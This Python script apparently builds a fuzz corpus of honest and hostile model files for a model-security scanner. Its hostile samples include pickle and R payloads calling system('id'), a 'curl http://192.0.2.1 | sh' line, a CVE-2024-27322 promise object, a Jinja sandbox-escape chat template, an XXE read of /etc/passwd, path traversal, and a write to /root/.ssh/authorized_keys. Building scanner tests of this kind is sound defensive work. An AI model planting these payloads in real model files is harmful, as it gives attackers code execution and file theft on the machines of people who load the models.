#!/usr/bin/python3
"""Writes the corpora of the binary model formats (fuzz/corpus/model_NAME): small files, honest and hostile.

python3-onnx, python3-msgpack and R write what they have a format for; the other files are put together byte by byte.
usage: tests/binary_models.py [FOLDER]   (default fuzz/corpus)
"""
import gzip
import json
import pathlib
import struct
import subprocess
import sys
import tempfile

ROOT = pathlib.Path(sys.argv[1] if len(sys.argv) > 1 else "fuzz/corpus")


def put(kind, name, data):
    folder = ROOT / f"model_{kind}"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_bytes(data.encode() if isinstance(data, str) else data)


# ---- protobuf ----------------------------------------------------------------------------------


def varint(n):
    n &= (1 << 64) - 1
    out = b""
    while n >= 0x80:
        out += bytes([n & 0x7F | 0x80])
        n >>= 7
    return out + bytes([n])


def field(number, value):
    """A number, text, bytes (a message among them), or a list of those."""
    if isinstance(value, list):
        return b"".join(field(number, v) for v in value)
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    value = value.encode() if isinstance(value, str) else value
    return varint(number << 3 | 2) + varint(len(value)) + value


def message(**fields):
    """message(f1=..., f7=[...]): fields by number."""
    return b"".join(field(int(name[1:]), value) for name, value in fields.items())


# ---- ONNX --------------------------------------------------------------------------------------


def onnx_models():
    import numpy
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    def model(nodes, initializers=(), **more):
        ends = [helper.make_tensor_value_info(n, TensorProto.FLOAT, [2]) for n in "xy"]
        graph = helper.make_graph(nodes, "g", ends[:1], ends[1:], list(initializers))
        made = helper.make_model(graph, producer_name="vedette-tests", producer_version="1", **more)
        made.ir_version = 8
        return made

    def external(location, **entries):
        tensor = numpy_helper.from_array(numpy.zeros(2, numpy.float32), "w")
        tensor.ClearField("raw_data")
        tensor.data_location = TensorProto.EXTERNAL
        for key, value in {"location": location, **entries}.items():
            entry = tensor.external_data.add()
            entry.key, entry.value = key, value
        return model([helper.make_node("Add", ["x", "w"], ["y"])], [tensor]).SerializeToString()

    weight = numpy_helper.from_array(numpy.arange(2, dtype=numpy.float32), "w")
    good = model([helper.make_node("Add", ["x", "w"], ["y"])], [weight])
    entry = good.metadata_props.add()
    entry.key, entry.value = "license", "Apache-2.0"
    put("onnx", "good", good.SerializeToString())
    branch = helper.make_graph([helper.make_node("Evil", ["x"], ["z"], domain="evil.ops")], "b", [], [])
    nested = model([helper.make_node("If", ["c"], ["y"], then_branch=branch, else_branch=branch)])
    put("onnx", "custom-in-branch", nested.SerializeToString())
    function = helper.make_function("local", "f", ["x"], ["y"], [helper.make_node("Relu", ["x"], ["y"])], [helper.make_opsetid("", 15)])
    local = model([helper.make_node("f", ["x"], ["y"], domain="local")], functions=[function])
    put("onnx", "function", local.SerializeToString())
    python = model([helper.make_node("PyOp", ["x"], ["y"], domain="ai.onnx.contrib", module="os", class_name="system")])
    put("onnx", "python", python.SerializeToString())
    put("onnx", "external", external("weights.bin", offset="0", length="8"))
    put("onnx", "external-climbs", external("../../../etc/passwd"))
    put("onnx", "external-absolute", external("/etc/passwd"))
    put("onnx", "external-device", external("/dev/zero", length="99999999999999999999"))
    put("onnx", "external-attribute", external("weights.bin", __class__="evil"))
    wrong = numpy_helper.from_array(numpy.arange(2, dtype=numpy.float32), "w")
    wrong.dims[:] = [1 << 40]
    put("onnx", "wrong-shape", model([helper.make_node("Add", ["x", "w"], ["y"])], [wrong]).SerializeToString())
    put("onnx", "cut", good.SerializeToString()[:-20])


# ---- TensorFlow --------------------------------------------------------------------------------


def node(name, op, *inputs, **attributes):
    entries = [message(f1=key, f2=value) for key, value in attributes.items()]
    return message(f1=name, f2=op, f3=list(inputs), f5=entries)


def text_constant(name, text):
    return node(name, "Const", value=message(f8=message(f1=7, f2=b"", f8=text)))


def number_constant(name, numbers):
    shape = message(f2=message(f1=len(numbers)))
    tensor = message(f1=1, f2=shape, f4=struct.pack(f"<{len(numbers)}f", *numbers))
    return node(name, "Const", value=message(f8=tensor))


def function(name, arguments, nodes):
    return message(f1=message(f1=name, f2=[message(f1=a) for a in arguments]), f3=nodes)


def call(name, to, *inputs):
    return node(name, "StatefulPartitionedCall", *inputs, f=message(f10=message(f1=to)))


def graph(nodes, functions=()):
    return message(f1=nodes) + (message(f2=message(f1=list(functions))) if functions else b"")


def saved_model(nodes, functions=(), **meta):
    info = message(f4="serve", f5="2.15.0")
    return message(f1=1, f2=message(f1=info, f2=graph(nodes, functions), **meta))


def tensorflow_models():
    base = [node("x", "Placeholder"), number_constant("w", [1, 2, 3]), node("y", "AddV2", "x", "w")]
    put("graphdef", "good", graph(base))
    put("graphdef", "reads", graph([*base, text_constant("p", "/etc/passwd"), node("r", "ReadFile", "p")]))
    put("graphdef", "python", graph([*base, node("f", "PyFunc", "x", token=message(f2="pyfunc_0"))]))
    put("graphdef", "custom", graph([*base, node("z", "EvilOp", "x")]))
    put("graphdef", "unknown-fields-first", field(99, "x") * 40 + graph([*base, node("w", "WriteFile", "x", "x")]))
    put("graphdef", "text.pbtxt", 'node { name: "p" op: "Const" attr { key: "value" value { tensor { dtype: DT_STRING string_val: "/etc/\\163hadow" } } } }\n'
        "node {\n  name: 'r' # comment\n  op: 'Read' 'File'\n  input: \"p\"\n}\nversions < producer: 1 >\n")
    saver = [
        node("saver_filename", "Placeholder"),
        call("save", "traced_save", "saver_filename", "w"),
    ]
    traced = function(
        "traced_save",
        ["file_prefix", "tensor"],
        [
            text_constant("suffix", "_temp/part"),
            node("join", "StringJoin", "file_prefix", "suffix:output:0"),
            node("shard", "ShardedFilename", "join:output:0"),
            node("s", "SaveV2", "shard:filename:0", "tensor"),
            node("m", "MergeV2Checkpoints", "join:output:0", "file_prefix"),
        ],
    )
    put("savedmodel", "good", saved_model(base + saver, [traced]))
    vocabulary = [text_constant("vocabulary", "/home/me/vocab.txt"), node("t", "HashTableV2"),
                  node("i", "InitializeTableFromTextFileV2", "t", "vocabulary")]
    asset = message(f1=message(f1="vocabulary:0"), f2="vocab.txt")
    put("savedmodel", "asset", saved_model(base + vocabulary, f6=asset))
    put("savedmodel", "asset-climbs", saved_model(base + vocabulary, f6=message(f1=message(f1="vocabulary:0"), f2="../../etc/passwd")))
    put("savedmodel", "table-reads", saved_model(base + vocabulary))
    put("savedmodel", "saves", saved_model([*base, text_constant("p", "/tmp/x"), node("s", "SaveV2", "p", "w")]))
    put("savedmodel", "saves-by-call", saved_model([*base, text_constant("p", "/root/.ssh/authorized_keys"), call("c", "traced_save", "p", "w")], [traced]))
    harmless = call("honest", "traced_save", "saver_filename", "w")
    twice = [*base, node("saver_filename", "Placeholder"), text_constant("p", "/tmp/x"), call("c", "traced_save", "p", "w"), harmless]
    put("savedmodel", "saves-by-second-call", saved_model(twice, [traced]))
    branch = node("c", "If", "x", "p", "w", then_branch=message(f10=message(f1="traced_save")), else_branch=message(f10=message(f1="traced_save")))
    put("savedmodel", "saves-in-branch", saved_model([*base, text_constant("p", "/tmp/x"), branch], [traced]))
    packed = node("p", "Const", value=message(f8=message(f1=7, f2=b"", f4=b"\x06/tmp/x")))
    put("savedmodel", "saves-packed", saved_model([*base, packed, node("s", "SaveV2", "p", "w")]))
    put("savedmodel", "saves-climbing-default", saved_model([*base, text_constant("p", "_temp/../../x"), node("s", "SaveV2", "p", "w")]))
    coded = [text_constant("b", "L3RtcC94"), node("p", "DecodeBase64", "b"), node("s", "SaveV2", "p", "w")]
    put("savedmodel", "saves-base64", saved_model(base + coded))
    stream = message(f2="file:///tmp/x")
    put("savedmodel", "prints", saved_model([*base, node("p", "PrintV2", "x", output_stream=stream)]))
    put("savedmodel", "prints-stderr", saved_model([*base, node("p", "PrintV2", "x", output_stream=message(f2="stderr"))]))
    urls = message(f1=message(f2="grpc://192.0.2.1:80"))
    put("savedmodel", "debugs", saved_model([*base, node("d", "DebugIdentityV3", "x", debug_urls=urls)]))
    put("savedmodel", "reader-in-function", saved_model(base, [function("f", [], [node("r", "WholeFileReaderV2")])]))
    lambda_layer = json.dumps({"class_name": "Lambda", "config": {"function": ["4wEAAAA="]}})
    user = message(f4=message(f1="_tf_keras_layer", f3=lambda_layer))
    put("savedmodel", "keras-2.4", saved_model(base, f7=message(f1=[user])))
    put("savedmodel", "text.pbtxt", 'saved_model_schema_version: 1\nmeta_graphs {\n  meta_info_def { tags: "serve" tensorflow_version: "2.15.0" }\n'
        '  graph_def {\n    node { name: "p" op: "Const" attr { key: "value" value { tensor { dtype: DT_STRING tensor_shape { dim { size: 1 } } string_val: "/tmp/x" } } } }\n'
        '    node { name: "w" op: "WriteFile" input: "p" input: "p" }\n  }\n}\n')
    put("savedmodel", "cut", saved_model(base + saver, [traced])[:-9])
    keras = message(f2=1, f3="root.layer", f4="_tf_keras_layer", f5=lambda_layer)
    put("keras_metadata", "lambda", message(f1=[message(f2=0, f3="root", f4="_tf_keras_model", f5='{"class_name": "Functional", "config": {}}'), keras]))
    put("keras_metadata", "cut", message(f1=[keras])[:-9])


# ---- flatbuffers -------------------------------------------------------------------------------


class Flat:
    """Writes from front to back: every table in front of what it points to."""

    def __init__(self, magic=b""):
        self.out = bytearray(b"\0\0\0\0" + magic)

    def align(self, n, ahead=0):
        while (len(self.out) + ahead) % n:
            self.out += b"\0"

    def point(self, slot, target):
        struct.pack_into("<I", self.out, slot, target - slot)

    def vector(self, size, items):
        self.align(8, 4)
        at = len(self.out)
        self.out += struct.pack("<I", len(items))
        self.out += b"".join(i.to_bytes(size, "little", signed=i < 0) for i in items)
        return at

    def text(self, value):
        value = value.encode() if isinstance(value, str) else value
        self.align(16, 4)
        at = len(self.out)
        self.out += struct.pack("<I", len(value)) + value + b"\0"
        return at

    def table(self, fields):
        """fields: index to ("<I", number), or to a callable that writes the target and returns its place."""
        count = max(fields, default=-1) + 1
        size, offsets = 4, [0] * count
        for index, value in sorted(fields.items()):
            width = 4 if callable(value) else struct.calcsize(value[0])
            size += -size % width
            offsets[index] = size
            size += width
        self.align(8)
        vtable = len(self.out)
        self.out += struct.pack(f"<HH{count}H", 4 + 2 * count, size, *offsets)
        self.align(8)
        at = len(self.out)
        self.out += struct.pack("<i", at - vtable) + bytes(size - 4)
        for index, value in fields.items():
            if callable(value):
                self.point(at + offsets[index], value())
            else:
                struct.pack_into(value[0], self.out, at + offsets[index], value[1])
        return at

    def tables(self, makers):
        at = self.vector(4, [0] * len(makers))
        for i, make in enumerate(makers):
            self.point(at + 4 + 4 * i, make())
        return at

    def root(self, fields):
        self.point(0, self.table(fields))
        return bytes(self.out)


def tflite(code=(0, None), tensors=((b"\0\0\x80\x3f" * 4, 0, [4]),), index=0, external=None):
    f = Flat(b"TFL3")
    fields = {0: ("<B", min(code[0], 127)), 3: ("<i", code[0])}
    if code[1]:
        fields[1] = lambda: f.text(code[1])

    def tensor(i):
        return lambda: f.table({0: lambda: f.vector(4, tensors[i][2]), 1: ("<B", tensors[i][1]), 2: ("<I", i + 1), 3: lambda: f.text(f"t{i}")})

    def operator():
        return f.table({0: ("<I", index), 1: lambda: f.vector(4, list(range(len(tensors)))), 5: lambda: f.text(b"opts")})

    def buffers():
        makers = [lambda: f.table({})] + [lambda t=t: f.table({0: lambda: f.text(t[0])}) for t in tensors]
        if external:
            makers[1] = lambda: f.table({1: ("<Q", external[0]), 2: ("<Q", external[1])})
        return f.tables(makers)

    graphs = lambda: f.tables([lambda: f.table({0: lambda: f.tables([tensor(i) for i in range(len(tensors))]), 3: lambda: f.tables([operator])})])
    return f.root({0: ("<I", 3), 1: lambda: f.tables([lambda: f.table(fields)]), 2: graphs, 3: lambda: f.text("vedette tests"), 4: buffers})


def flat_models():
    path = b"/tmp/x"
    texts = struct.pack("<iii", 1, 12, 12 + len(path)) + path
    put("tflite", "good", tflite())
    put("tflite", "custom", tflite((32, "EvilOp")))
    put("tflite", "detection", tflite((32, "TFLite_Detection_PostProcess")))
    put("tflite", "flex", tflite((32, "FlexErf")))
    put("tflite", "flex-writes", tflite((32, "FlexWriteFile"), ((texts, 5, [1]), (texts, 5, [1]))))
    put("tflite", "wrong-shape", tflite(tensors=((b"\0" * 16, 0, [1 << 30]),)))
    put("tflite", "code-out-of-range", tflite(index=77))
    put("tflite", "buffer-past-end", tflite(external=(1 << 40, 16)))
    good = bytearray(tflite())
    struct.pack_into("<I", good, 0, 1 << 30)
    put("tflite", "root-past-end", bytes(good))
    put("tflite", "cut", tflite()[:-40])

    def catboost(version="FlabuffersModel_v1"):
        f = Flat()
        pair = lambda k, v: lambda: f.table({0: lambda: f.text(k), 1: lambda: f.text(v)})
        pairs = [pair("catboost_version_info", "CatBoost 1.2"), pair("model_guid", "0")]
        core = f.root({0: lambda: f.text(version), 2: lambda: f.tables(pairs)})
        return b"CBM1" + struct.pack("<I", len(core)) + core

    put("catboost", "good", catboost())
    put("catboost", "trailing", catboost() + b"#!/bin/sh\nid\n")
    put("catboost", "longer-than-file", b"CBM1" + struct.pack("<I", 1 << 30) + catboost()[8:])
    put("catboost", "cut", catboost()[:-30])


# ---- GGUF --------------------------------------------------------------------------------------


def gguf(pairs=(), tensors=(), version=3, order="<", data=b"", tensor_count=None, pair_count=None):
    size = "I" if version == 1 else "Q"
    text = lambda s: struct.pack(order + size, len(s)) + s.encode()
    out = b"GGUF" + struct.pack(order + "I", version)
    out += struct.pack(order + size, len(tensors) if tensor_count is None else tensor_count)
    out += struct.pack(order + size, len(pairs) if pair_count is None else pair_count)
    for key, value in pairs:
        if isinstance(value, str):
            out += text(key) + struct.pack(order + "I", 8) + text(value)
        elif isinstance(value, list):
            out += text(key) + struct.pack(order + "II" + size, 9, 8, len(value)) + b"".join(map(text, value))
        elif isinstance(value, bytes):
            out += text(key) + value
        else:
            out += text(key) + struct.pack(order + "II", 4, value)
    for name, dims, kind, offset in tensors:
        out += text(name) + struct.pack(order + "I", len(dims))
        out += struct.pack(f"{order}{len(dims)}{size}", *dims) + struct.pack(order + "IQ", kind, offset)
    return out + bytes(-len(out) % 32) + data


def gguf_models():
    about = [("general.architecture", "llama"), ("general.name", "tiny"), ("general.license", "mit"),
             ("general.file_type", 2), ("tokenizer.ggml.tokens", ["<s>", "a"])]
    tensors = [("a", [32], 2, 0), ("b", [4], 0, 32)]
    data = bytes(32 + 16)
    put("gguf", "good", gguf(about, tensors, data=data))
    put("gguf", "version-1", gguf(about, tensors, version=1, data=data))
    put("gguf", "version-2", gguf(about, tensors, version=2, data=data))
    put("gguf", "big-endian", gguf(about, tensors, order=">", data=data))
    evil = "{% for x in ''.__class__.__base__.__subclasses__() %}{{ x.__init__.__globals__ }}{% endfor %}"
    put("gguf", "template", gguf([*about, ("tokenizer.chat_template", evil)], tensors, data=data))
    put("gguf", "template-tool", gguf([*about, ("tokenizer.chat_template.tool_use", evil)], tensors, data=data))
    put("gguf", "counts", gguf(about, tensors, tensor_count=1 << 62, pair_count=1 << 61))
    put("gguf", "overflow", gguf(about, [("a", [1 << 33, 1 << 33], 0, 0)], data=data))
    put("gguf", "past-end", gguf(about, [("a", [1 << 20], 0, 0)], data=data))
    put("gguf", "offset", gguf(about, [("a", [4], 0, (1 << 64) - 32)], data=data))
    put("gguf", "overlap", gguf(about, [("a", [16], 0, 0), ("b", [8], 0, 32)], data=bytes(64)))
    put("gguf", "twice", gguf([*about, ("general.name", "other")], [("a", [4], 0, 0), ("a", [4], 0, 32)], data=bytes(48)))
    put("gguf", "rank", gguf(about, [("a", [1] * 9, 0, 0)], data=data))
    put("gguf", "alignment", gguf([*about, ("general.alignment", 0)], tensors, data=data))
    put("gguf", "text-length", gguf([*about, ("k", struct.pack("<IQ", 8, (1 << 64) - 1))], tensors, data=data))
    put("gguf", "array-length", gguf([*about, ("k", struct.pack("<IIQ", 9, 12, 1 << 61))], tensors, data=data))
    put("gguf", "array-in-array", gguf([*about, ("k", struct.pack("<IIQ", 9, 9, 1))], tensors, data=data))
    put("gguf", "trailing", gguf(about, tensors, data=data + b"#!/bin/sh\n" * 20))
    put("gguf", "negative-type", gguf(about, [("a", [4], (1 << 32) - 1, 0)], data=data))


# ---- msgpack, Orbax, Zarr ----------------------------------------------------------------------


def array_models():
    import msgpack

    def array(shape, dtype, data):
        return msgpack.ExtType(1, msgpack.packb((shape, dtype, data)))

    kernel = array([2, 3], "float32", struct.pack("<6f", *range(6)))
    tree = {"params": {"dense": {"kernel": kernel, "bias": array([3], "bfloat16", bytes(6))}}, "step": 7}
    put("msgpack", "good", msgpack.packb(tree))
    put("msgpack", "wrong-shape", msgpack.packb({"a": array([1 << 40], "float32", bytes(8))}))
    put("msgpack", "trailing", msgpack.packb(tree) + b"\x80\x04N.")
    put("msgpack", "pickled", msgpack.packb({"a": kernel, "b": {"nd": True, "kind": "O", "data": b"\x80\x04cos\nsystem\n\x8c\x02id\x85R."}}))
    put("msgpack", "extension", msgpack.packb({"a": msgpack.ExtType(42, b"\x80\x02cos\nsystem\nU\x02id\x85R.")}))
    put("msgpack", "longer", msgpack.packb({"a": b"\x80\x02cos\nsystem\nU\x02id\x85R." + bytes(300)}))
    put("msgpack", "guess", msgpack.packb({"a": b"\x1f\x8b\x08\0aaaa\0\3\xff\x00\x13junk that is no deflate"}))
    put("msgpack", "long-map", b"\xdf\xff\xff\xff\xff\xa1a" + msgpack.packb(kernel))
    put("msgpack", "deep", b"\x81\xa1a" * 200 + msgpack.packb(kernel))
    put("msgpack", "cut", msgpack.packb(tree)[:-9])
    zarr = {"zarr_format": 2, "shape": [2, 3], "chunks": [2, 3], "dtype": "<f4", "compressor": {"id": "zstd"}, "filters": None, "fill_value": 0, "order": "C"}
    put("orbax", "zarr-good", json.dumps({"metadata": {"params.kernel/.zarray": zarr}, "zarr_consolidated_format": 1}))
    put("orbax", "zarr-pickle", json.dumps({**zarr, "dtype": "|O", "filters": [{"id": "pickle", "protocol": 4}]}))
    put("orbax", "zarr-object", json.dumps({**zarr, "dtype": "|O"}))
    put("orbax", "zarr-text", json.dumps({**zarr, "dtype": "|O", "filters": [{"id": "vlen-utf8"}]}))
    put("orbax", "zarr-3", json.dumps({"zarr_format": 3, "node_type": "array", "shape": [2], "data_type": "float32", "codecs": [{"name": "bytes"}, {"name": "numcodecs.pickle"}]}))
    put("orbax", "metadata", json.dumps({"tree_metadata": {"('a',)": {"key_metadata": [], "value_metadata": {"value_type": "jax.Array"}}}, "use_zarr3": False}))
    manifest = b"\x0c\xdb\x3a\x2a" + struct.pack("<Q", 32) + b"\0" + bytes(19)
    put("orbax", "manifest", manifest)
    put("orbax", "manifest-trailing", manifest + b"\x7fELF")


# ---- Core ML, Paddle ---------------------------------------------------------------------------


def other_messages():
    extra = message(f1="com.github.apple.coremltools.version", f2="7.1")
    about = message(f100=message(f1="tiny", f2="1", f3="me", f4="MIT", f100=extra))
    put("coreml", "good", message(f1=4, f2=about, f500=message(f1=[message(f1="a", f140=message(f1=1))])))
    custom = message(f1="c", f500=message(f10="EvilLayer", f40="does things"))
    network = message(f1=4, f2=about, f403=message(f1=[custom]))
    put("coreml", "custom-layer", network)
    put("coreml", "custom-in-pipeline", message(f1=4, f2=about, f200=message(f1=message(f1=[network]))))
    put("coreml", "custom-model", message(f1=4, f2=about, f555=message(f10="EvilModel")))
    put("coreml", "linked", message(f1=4, f2=about, f556=message(f1=message(f1=message(f1="../../evil.mlmodelc")))))
    put("coreml", "cut", network[:-5])
    operator = lambda kind, **attributes: message(f3=kind, f4=[message(f1=k, f2=2, f5=v) for k, v in attributes.items()])
    block = lambda *ops: message(f1=0, f2=(1 << 64) - 1, f3=message(f1="x", f2=message(f1=7)), f4=list(ops))
    program = lambda *ops: message(f1=block(*ops), f4=message(f1=2006000))
    put("paddle", "good", program(operator("feed"), operator("matmul_v2"), operator("fetch")))
    put("paddle", "python", program(operator("py_func")))
    put("paddle", "saves", program(operator("save_combine", file_path="/tmp/x")))
    put("paddle", "cut", program(operator("feed"), operator("matmul_v2"))[:-4])


# ---- MXNet, OpenVINO ---------------------------------------------------------------------------


def mxnet_params(arrays, count=None):
    out = struct.pack("<QQQ", 0x112, 0, len(arrays) if count is None else count)
    for shape, data in arrays.values():
        out += struct.pack(f"<IiI{len(shape)}qiii", 0xF993FAC9, 0, len(shape), *shape, 1, 0, 0) + data
    out += struct.pack("<Q", len(arrays))
    return out + b"".join(struct.pack("<Q", len(n)) + n.encode() for n in arrays)


def symbol(*nodes):
    return json.dumps({"nodes": [{"op": "null", "name": "data", "inputs": []}, *nodes], "arg_nodes": [0], "heads": [[1, 0, 0]],
                       "attrs": {"mxnet_version": ["int", 10901]}})


def network(layers, head='<?xml version="1.0"?>\n'):
    return f'{head}<net name="tiny" version="11"><layers>{layers}</layers><edges/><rt_info><Runtime_version value="2024.0"/></rt_info></net>'


def last_models():
    good = {"arg:w": ([2, 2], struct.pack("<4f", 1, 2, 3, 4)), "aux:b": ([1], bytes(4))}
    put("mxnet", "good", mxnet_params(good))
    put("mxnet", "past-end", mxnet_params({"w": ([1 << 40], b"")}))
    put("mxnet", "count", mxnet_params(good, 1 << 60))
    put("mxnet", "trailing", mxnet_params(good) + b"#!/bin/sh\n")
    put("mxnet", "cut", mxnet_params(good)[:-3])
    put("mxnet", "symbol", symbol({"op": "FullyConnected", "name": "fc", "attrs": {"num_hidden": "1"}, "inputs": [[0, 0, 0]]}))
    put("mxnet", "symbol-custom", symbol({"op": "Custom", "name": "c", "attrs": {"op_type": "evil"}, "inputs": [[0, 0, 0]]}))
    put("mxnet", "symbol-name", symbol({"op": "a" * 300 + "!", "name": "c", "inputs": [[0, 0, 0]]}))
    data = '<layer id="0" name="w" type="Const" version="opset1"><data element_type="f32" shape="2, 2" offset="0" size="16"/></layer>'
    put("openvino", "good", network(data))
    put("openvino", "extension", network('<layer id="0" name="e" type="Evil" version="extension"/>'))
    put("openvino", "in-body", network('<layer id="0" name="l" type="Loop" version="opset5"><body><layers><layer id="0" name="e" type="Evil" version="evil"/></layers></body></layer>'))
    put("openvino", "wrong-size", network(data.replace('size="16"', 'size="18446744073709551615"')))
    put("openvino", "entity", network(data, '<?xml version="1.0"?>\n<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'))
    put("openvino", "cut", network(data)[:-20])


# ---- R -----------------------------------------------------------------------------------------

R = r"""
save_as <- function(name, x, ...) saveRDS(x, file.path(out, name), compress = FALSE, ...)
set.seed(1)
model <- lm(mpg ~ wt, mtcars[1:6, ])
attr(model$terms, ".Environment") <- globalenv()
save_as("model", model)
save_as("text", list(a = 1:3, b = c("x", NA, "line\nend"), c = 2i), ascii = TRUE)
writeBin(serialize(list(a = 1:3, b = raw(4), z = NULL), NULL, xdr = FALSE), file.path(out, "native"))
save_as("version-2", data.frame(a = 1:2, b = c("x", "y")), version = 2)
late <- function(expr) { e <- new.env(parent = emptyenv()); do.call(delayedAssign, list("x", expr, baseenv(), e)); e }
save_as("promise-system", late(quote(system("id"))))
save_as("promise-eval", late(quote(eval(parse(text = "system('id')")))))
save_as("promise-namespace", late(quote(base::system2("id", args = "-u"))))
save_as("promise-harmless", late(quote(x + 1)))
compiled <- compiler::cmpfun(function(x) { s <- 0; for (i in 1:10) s <- s + x[[i]]; s })
attr(compiled, "srcref") <- NULL
environment(compiled) <- globalenv()
save_as("compiled", compiled)
evil <- eval(quote(function(x) { system("curl http://192.0.2.1 | sh"); x }))
attr(evil, "srcref") <- NULL
environment(evil) <- globalenv()
save_as("function-system", evil)
evil <- compiler::cmpfun(evil)
save_as("compiled-system", evil)
save_as("pointer", list(new("externalptr"), asS4(1)))
a <- 1:3
f <- function(x) x
attr(f, "srcref") <- NULL
environment(f) <- globalenv()
save(a, f, file = file.path(out, "image"), compress = FALSE)
save(a, f, file = file.path(out, "image-text"), compress = FALSE, ascii = TRUE)
"""


def r_models():
    with tempfile.TemporaryDirectory() as folder:
        subprocess.run(["Rscript", "--vanilla", "-e", f"out <- '{folder}'", "-e", R], check=True, stdout=subprocess.DEVNULL)
        for path in pathlib.Path(folder).iterdir():
            put("rds", path.name, path.read_bytes())
    # As CVE-2024-27322 has it: a promise that is the object itself, without a value.
    chars = lambda s: struct.pack(">II", 0x40009, len(s)) + s
    name = lambda s: struct.pack(">I", 1) + chars(s)
    text = struct.pack(">II", 16, 1) + chars(b"id > /tmp/x")
    run = struct.pack(">I", 6) + name(b"system") + struct.pack(">I", 2) + text + struct.pack(">I", 254)
    head = b"X\n" + struct.pack(">III", 2, 0x040303, 0x020300)
    promise = struct.pack(">I", 5) + struct.pack(">I", 252) + run
    put("rds", "promise-object", head + promise)
    put("rds", "trailing", head + struct.pack(">I", 254) + b"#!/bin/sh\n")
    put("rds", "cut", (ROOT / "model_rds" / "model").read_bytes()[:500])
    put("rds", "deep", head + struct.pack(">II", 19, 1) * 400)
    put("rds", "length", head + struct.pack(">IiII", 19, -1, 0x7FFFFFFF, 0))
    put("compressed", "promise.rds", gzip.compress(head + promise, mtime=0))


onnx_models()
tensorflow_models()
flat_models()
gguf_models()
array_models()
other_messages()
last_models()
r_models()
